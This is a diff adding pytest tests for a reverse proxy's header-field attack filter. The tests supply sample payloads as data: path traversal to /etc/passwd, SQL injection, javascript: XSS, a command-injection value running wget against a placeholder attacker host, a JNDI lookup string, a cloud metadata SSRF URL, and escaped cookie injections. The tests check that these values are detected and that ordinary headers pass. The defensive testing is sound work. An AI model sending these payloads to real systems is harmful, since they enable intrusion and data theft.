@@ -5,13 +5,14 @@ from __future__ import annotations
 import time
 from urllib.parse import quote
 
+import pytest
 from hypothesis import given, settings, strategies as st
 
 from revproxy.filters.decode import PARAMETERS
 from revproxy.filters.engine import IN_HEAD, RuleSet
 from revproxy.filters.media import reading
 from revproxy.filters.report import Report
-from revproxy.filters.rules import BODY, QUERY, RULES, Rule
+from revproxy.filters.rules import BODY, HEADERS, QUERY, RULES, Rule
 from tests.filters.kit import BROWSER, FORM, raw_field, request, samples, work
 
 RULE_SET = RuleSet()
@@ -180,3 +181,85 @@ def test_a_glance_passes_nothing_that_would_be_found(attack: str, place: int) ->
     target = (b"/?a=1&b=" + value, b"/", b"/", b"/" + value)[place]
     fields = [(), ((b"Cookie", b"a=b; c=" + value),), ((b"X-Thing", value),), ()][place]
     found(target, *fields, rules=RuleSet() if place == 1 else RULE_SET)
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "number"),
+    [
+        (b"X-File", b"../../../../etc/passwd", 1101),
+        (b"X-File", b"/etc/passwd", 1103),
+        (b"X-Id", b"1 union select null,null from users", 2001),
+        (b"X-Id", b"1 or 1=1", 2003),
+        (b"Referer", b"javascript:alert(1)", 3003),
+        (b"Referer", b"https://www.example.com/?a=1&b=javascript:alert(1)", 3003),
+        (b"X-Host", b";wget http://evil.example/x", 4001),
+        (b"X-Class", b"class.module.classLoader.x", 5007),
+        (b"X-Include", b"php://filter/read=x/resource=y", 6002),
+        (b"X-Data", b"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", 6005),
+        (b"X-Python", b"__import__(os)", 5003),
+        (b"X-Url", b"http://169.254.169.254/latest/meta-data/", 7001),
+    ],
+)
+def test_fields_of_plain_letters_are_looked_at(name: bytes, value: bytes, number: int) -> None:
+    rules = RuleSet()
+    for _ in range(2):
+        assert number in found(b"/", (name, value), rules=rules).hits
+
+
+def test_own_rules_for_header_fields_find_any_text() -> None:
+    for pattern, needs in (("evil-word", ("evil-word",)), ("ev[i1]l-w[0o]rd", ())):
+        rules = RuleSet([Rule(10001, "own", 5, pattern, needs, HEADERS)])
+        for _ in range(2):
+            assert not found(b"/", (b"X-A", b"good-word"), rules=rules)
+            assert found(b"/", (b"X-A", b"Evil-Word"), rules=rules).score == 5
+            assert found(b"/", (b"Referer", b"https://www.example.com/evil-word"), rules=rules).score == 5
+
+
+def test_what_is_usual_in_header_fields_passes() -> None:
+    rules = RuleSet()
+    for name, value in (
+        (b"Accept", b"*/*"),
+        (b"Accept", b"text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"),
+        (b"Accept-Language", b"de-CH,de;q=0.9,en;q=0.8,*;q=0.5"),
+        (b"Referer", b"https://www.example.com/list?a=1&id"),
+        (b"Referer", b"https://www.example.com/list?a=1&id&set&page=2"),
+        (b"Referer", b"https://www.example.com/search?q=rock+%26+roll&next=%2Fa%2Fb%3Fc%3Dd"),
+        (b"Via", b"1.1 varnish (Varnish/7.1), 1.1 cache (squid/4.10)"),
+        (b"Forwarded", b'for=192.0.2.60;proto=http;by=203.0.113.43, for="[2001:db8:cafe::17]:4711"'),
+        (b"X-Forwarded-For", b"100.100.100.200, 10.0.0.1"),
+        (b"X-Real-IP", b"169.254.1.1"),
+        (b"X-Amzn-Trace-Id", b"Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1"),
+        (b"X-Cloud-Trace-Context", b"105445aa7843bc8bf206b12000100000/1;o=1"),
+        (b"X-Requested-With", b"XMLHttpRequest"),
+        (b"X-Client-Data", b"CIa2yQEIorbJAQipncoBCMKTywEIlqHLAQiFoM0BCLnKzQE="),
+        (b"X-Original-URL", b"/shop/cart?item=5&count=2"),
+        (b"Range", b"bytes=0-1023,2048-"),
+        (b"Content-Type", b"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
+    ):
+        assert not found(b"/", (name, value), rules=rules), (name, value)
+
+
+def test_harmless_values_are_remembered_and_bounded() -> None:
+    rules = RuleSet()
+    again = 0
+    for number in range(3000):
+        made = request(b"/", (b"Referer", b"https://www.example.com/?a=%d&b=2" % number))
+        if rules.glance(made):
+            work(rules.head(made, Report()))
+        again += rules.glance(made) > 0
+    assert len(rules._values) <= 2048 and again <= 2
+
+
+def test_a_value_is_not_harmless_because_its_rule_found_something_before() -> None:
+    rules, field = RuleSet(), (b"X-A", b"${jndi:ldap://x/a}")
+    assert found(b"/?q=$%7Bjndi:ldap://x/a%7D", field, rules=rules).hits
+    assert found(b"/", field, rules=rules).hits
+
+
+@pytest.mark.parametrize("value", [rb'"1\047 or \0471\047=\0471"', rb'"\074\s\c\r\i\p\t\>"', rb'"1\" or \"1\"=\"1"'])
+def test_cookies_are_looked_at_as_they_are_unescaped(value: bytes) -> None:
+    rules = RuleSet()
+    for _ in range(2):
+        assert found(b"/", (b"Cookie", b"a=b; id=" + value), rules=rules).score >= 5
+        assert found(b"/", (b"Cookie", b"id=" + value), (b"Cookie", b"c=d"), rules=rules).score >= 5
+        assert not found(b"/", (b"Cookie", rb'a=b; id="C:\dir\101"'), rules=rules)
